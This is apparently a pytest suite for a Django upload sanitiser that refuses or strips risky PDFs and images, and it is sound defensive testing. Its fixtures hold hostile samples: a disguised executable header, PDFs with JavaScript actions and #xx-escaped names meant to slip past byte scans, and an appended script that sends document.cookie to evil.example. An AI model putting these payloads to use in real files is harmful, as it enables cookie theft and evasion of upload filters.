"""Upload checks (core.uploads.clean_upload) and uploads kept across a failed form (core.forms)."""

import datetime
import io

import pytest
from django import forms
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone

from core.forms import KEPT_SUFFIX, CheckedFileField, KeptUploadsMixin
from core.models import PendingUpload
from core.uploads import PDF, clean_upload
from tests.factories import pdf_bytes, png_bytes

pytestmark = pytest.mark.usefixtures("english")

EXECUTABLE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 200
PDF_WITH_JAVASCRIPT = (
    b"%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n%%EOF"
)


def jpeg_bytes():
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (20, 20), (30, 30, 200)).save(out, format="JPEG")
    return out.getvalue()


def upload(content, name="file.pdf"):
    return SimpleUploadedFile(name, content)


def refusal(content, name="file.pdf", allowed=None):
    with pytest.raises(ValidationError) as caught:
        clean_upload(upload(content, name), *([allowed] if allowed else []))
    return caught.value


@pytest.fixture
def _uploads_in_tmp(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "uploads"


# clean_upload ---------------------------------------------------------------------------------------


def test_a_real_pdf_passes_with_a_random_name_and_its_original_name_kept():
    data = pdf_bytes()
    clean = clean_upload(upload(data, "社保 record.pdf"), (PDF,))
    assert clean.read() == data  # pypdf's own output is what the rewrite writes again
    assert clean.name.endswith(".pdf") and "record" not in clean.name
    assert clean.original_name == "社保 record.pdf"


@pytest.mark.parametrize(("content", "extension"), [(png_bytes(), ".png"), (jpeg_bytes(), ".jpg")])
def test_images_are_re_encoded(content, extension):
    clean = clean_upload(upload(content + b"appended payload", "photo" + extension))
    assert clean.name.endswith(extension)
    assert b"appended payload" not in clean.read()


def test_a_renamed_executable_is_refused():
    error = refusal(EXECUTABLE, "shebao.pdf")
    assert error.code == "type"
    assert error.messages == ["Only these file types are accepted: PDF, JPG, PNG."]


def test_an_image_where_only_a_pdf_is_accepted_is_refused():
    error = refusal(png_bytes(), "shebao.pdf", allowed=(PDF,))
    assert error.messages == ["Only these file types are accepted: PDF."]


def test_a_truncated_png_is_refused():
    error = refusal(png_bytes()[:40], "photo.png")
    assert error.code == "image_broken"
    assert "cannot be read" in error.messages[0]


def test_a_zero_byte_file_is_refused():
    error = refusal(b"", "empty.pdf")
    assert (error.code, error.messages) == ("empty", ["The file is empty."])


def test_a_file_over_the_size_limit_is_refused(settings):
    settings.PORTAL_UPLOAD_MAX_BYTES = 1024 * 1024
    error = refusal(pdf_bytes() + b"\n%" + b"x" * (1024 * 1024), "big.pdf")
    assert (error.code, error.messages) == ("too_large", ["The file is larger than 1 MB. Upload a smaller scan."])


def test_a_pdf_with_a_javascript_action_is_refused():
    error = refusal(PDF_WITH_JAVASCRIPT, "shebao.pdf")
    assert error.code == "pdf_active"
    assert "scripts" in error.messages[0]


def test_a_pdf_that_does_not_parse_is_refused():
    error = refusal(b"%PDF-1.4\nthis is not really a pdf at all", "broken.pdf")
    assert error.code == "pdf_broken"


# What is stored: the rewritten file -----------------------------------------------------------------


def pdf_of(*objects, root=1):
    """A PDF of the given object bodies (numbered from 1), with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref)
    return bytes(out)


# Names written with #xx escapes (/Java#53cript is /JavaScript to every reader) pass a scan of the raw bytes;
# what the rewrite keeps is decided on the parsed objects.
PAYLOAD = b"MZ-embedded-executable"
ACTIVE_PDF = pdf_of(
    b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /AA << /WC 4 0 R >>"
    b" /Names << /Java#53cript << /Names [(x) 4 0 R] >> /Embedded#46iles << /Names [(a.exe) 5 0 R] >> >> >>",
    b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O 4 0 R >> /Annots [6 0 R 7 0 R] >>",
    b"<< /S /Java#53cript /J#53 (app.alert('stolen')) >>",
    b"<< /Type /Filespec /F (a.exe) /EF << /F 8 0 R >> >>",
    b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS 5 0 R >>",
    b"<< /Type /Annot /Subtype /Link /Rect [20 20 90 40] /A 4 0 R /AA << /E 4 0 R >> >>",
    b"<< /Type /Embedded#46ile /Length %d >>\nstream\n%s\nendstream" % (len(PAYLOAD), PAYLOAD),
)


def stored_pdf(content):
    from pypdf import PdfReader

    data = clean_upload(upload(content), (PDF,)).read()
    return data, PdfReader(io.BytesIO(data))


def test_anything_after_the_last_eof_is_not_stored():
    appended = b"<html><script>fetch('//evil.example/'+document.cookie)</script></html>"
    data, reader = stored_pdf(pdf_bytes("after eof") + appended)
    assert b"<script>" not in data and b"evil.example" not in data
    assert data.rstrip().endswith(b"%%EOF")
    assert len(reader.pages) == 1 and reader.metadata.title == "after eof"


def with_incremental_update(original, title):
    """What an editor appends to a PDF: the changed object, a new cross-reference section, a second %%EOF."""
    previous = int(original.rsplit(b"startxref", 1)[1].split()[0])
    body = b"5 0 obj\n<< /Title (%s) >>\nendobj\n" % title
    section = b"xref\n5 1\n%010d 00000 n \ntrailer\n<< /Size 6 /Root 3 0 R /Info 5 0 R /Prev %d >>\n" % (
        len(original),
        previous,
    )
    return original + body + section + b"startxref\n%d\n%%%%EOF\n" % (len(original) + len(body))


def test_an_incremental_update_is_folded_into_one_revision():
    data, reader = stored_pdf(with_incremental_update(pdf_bytes("first"), b"second"))
    assert data.count(b"%%EOF") == 1 and b"first" not in data
    assert len(reader.pages) == 1 and reader.metadata.title == "second"


def test_scripts_open_actions_and_embedded_files_are_not_stored():
    from pypdf.generic import NameObject

    data, reader = stored_pdf(ACTIVE_PDF)
    assert b"stolen" not in data and PAYLOAD not in data and b"a.exe" not in data
    catalog = reader.trailer["/Root"]
    assert not {"/OpenAction", "/AA", "/Names", "/AcroForm"} & set(catalog.keys())
    page = reader.pages[0]
    assert "/AA" not in page
    annotations = [annotation.get_object() for annotation in page.get("/Annots", [])]
    # The link stays where it was, without its actions; the attachment is gone.
    assert [annotation["/Subtype"] for annotation in annotations] == [NameObject("/Link")]
    assert not {"/A", "/AA"} & set(annotations[0].keys())


def test_an_internal_link_keeps_its_destination():
    from pypdf import PdfWriter
    from pypdf.annotations import Link

    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_blank_page(width=200, height=200)
    writer.add_annotation(0, Link(rect=(10, 10, 90, 30), target_page_index=1))
    out = io.BytesIO()
    writer.write(out)
    _data, reader = stored_pdf(out.getvalue())
    link = reader.pages[0]["/Annots"][0].get_object()
    assert reader.get_page_number(link["/Dest"][0].get_object()) == 1


def jpeg_segments(data):
    """The marker bytes of a JPEG's segments up to the image data (SOS)."""
    markers, position = [], 2
    while position < len(data) and data[position] == 0xFF:
        marker = data[position + 1]
        markers.append(marker)
        if marker == 0xDA:
            break
        position += 2 + int.from_bytes(data[position + 2 : position + 4], "big")
    return markers


def png_chunks(data):
    chunks, position = [], 8
    while position < len(data):
        length = int.from_bytes(data[position : position + 4], "big")
        chunks.append(data[position + 4 : position + 8].decode("latin-1"))
        position += 12 + length
    return chunks


def test_a_jpeg_is_stored_without_comments_exif_xmp_or_profile():
    from PIL import Image

    exif = Image.Exif()
    exif[0x010E] = "exif description"  # ImageDescription
    exif[0x8825] = {2: (43.0, 47.0, 0.0)}  # GPS
    out = io.BytesIO()
    Image.new("RGB", (20, 20), (30, 30, 200)).save(
        out,
        format="JPEG",
        comment=b"<script>alert('jpeg comment')</script>",
        exif=exif,
        icc_profile=b"icc-profile-bytes" * 10,
        xmp=b"<x:xmpmeta>xmp packet</x:xmpmeta>",
    )
    original = out.getvalue()
    assert {0xFE, 0xE1, 0xE2} <= set(jpeg_segments(original))  # COM, APP1 (EXIF, XMP), APP2 (ICC)

    stored = clean_upload(upload(original, "photo.jpg")).read()
    assert not {0xFE, 0xE1, 0xE2} & set(jpeg_segments(stored))
    for text in (b"jpeg comment", b"exif description", b"icc-profile-bytes", b"xmp packet"):
        assert text not in stored
    assert Image.open(io.BytesIO(stored)).size == (20, 20)


def test_a_png_is_stored_with_image_chunks_only():
    from PIL import Image
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Comment", "png text chunk")
    info.add_text("Description", "png compressed chunk", zip=True)
    info.add_itxt("Title", "png international chunk")
    out = io.BytesIO()
    Image.new("RGB", (20, 20), (200, 30, 30)).save(out, format="PNG", pnginfo=info, icc_profile=b"icc" * 40)
    assert {"tEXt", "zTXt", "iTXt", "iCCP"} <= set(png_chunks(out.getvalue()))

    stored = clean_upload(upload(out.getvalue(), "photo.png")).read()
    assert set(png_chunks(stored)) <= {"IHDR", "PLTE", "tRNS", "IDAT", "IEND"}
    assert b"png text chunk" not in stored


def test_a_transparent_palette_png_keeps_its_transparency():
    from PIL import Image

    image = Image.new("P", (4, 4), 0)
    image.putpalette([255, 255, 255, 0, 0, 0])
    out = io.BytesIO()
    image.save(out, format="PNG", transparency=0)
    stored = Image.open(io.BytesIO(clean_upload(upload(out.getvalue(), "photo.png")).read()))
    assert stored.info.get("transparency") == 0


# Kept uploads ----------------------------------------------------------------------------------------


class UploadForm(KeptUploadsMixin, forms.Form):
    note = forms.CharField()
    record = CheckedFileField(allowed=(PDF,))
    photo = CheckedFileField()

    def clean(self):
        cleaned = super().clean()
        self.keep_uploads()
        return cleaned


@pytest.mark.django_db
@pytest.mark.usefixtures("_uploads_in_tmp")
class TestKeptUploads:
    def test_a_file_that_passed_is_kept_when_another_field_fails(self):
        form = UploadForm({"note": ""}, {"record": upload(pdf_bytes(), "shebao.pdf")})
        assert not form.is_valid()
        pending = PendingUpload.objects.get()
        assert (pending.field, pending.original_name) == ("record", "shebao.pdf")
        html = str(form["record"])
        assert f'name="record{KEPT_SUFFIX}" value="{pending.token}"' in html
        assert "Kept: shebao.pdf" in html

        again = UploadForm({"note": "fixed", f"record{KEPT_SUFFIX}": pending.token}, {})
        assert again.is_valid(), again.errors
        files = again.kept_files()
        assert files["record"].read() == pdf_bytes()
        assert files["record"].original_name == "shebao.pdf"
        again.discard_kept()
        assert not PendingUpload.objects.exists()

    def test_a_refused_file_is_not_kept(self):
        form = UploadForm({"note": ""}, {"record": upload(EXECUTABLE, "shebao.pdf")})
        assert not form.is_valid()
        assert form.errors["record"] == ["Only these file types are accepted: PDF."]
        assert not PendingUpload.objects.exists()

    def test_a_token_counts_only_for_the_field_it_was_kept_for(self):
        # A PNG kept as the photo must not pass as the PDF-only record.
        form = UploadForm({"note": ""}, {"photo": upload(png_bytes(), "photo.png")})
        form.is_valid()
        token = PendingUpload.objects.get(field="photo").token
        forged = UploadForm({"note": "x", f"record{KEPT_SUFFIX}": token}, {})
        assert forged.is_valid()
        assert forged.kept["record"] is None
        assert "record" not in forged.kept_files()

    def test_an_old_token_is_ignored(self):
        pending = PendingUpload.objects.create(
            field="record",
            file=SimpleUploadedFile("x.pdf", pdf_bytes()),
            original_name="x.pdf",
            created_at=timezone.now() - datetime.timedelta(days=2),
        )
        form = UploadForm({"note": "x", f"record{KEPT_SUFFIX}": pending.token}, {})
        assert form.is_valid()
        assert form.kept["record"] is None

    def test_a_new_file_replaces_the_kept_one(self):
        first = UploadForm({"note": ""}, {"record": upload(pdf_bytes("one"), "one.pdf")})
        first.is_valid()
        token = PendingUpload.objects.get().token
        second = UploadForm(
            {"note": "x", f"record{KEPT_SUFFIX}": token}, {"record": upload(pdf_bytes("two"), "two.pdf")}
        )
        assert second.is_valid()
        assert second.kept["record"].original_name == "two.pdf"
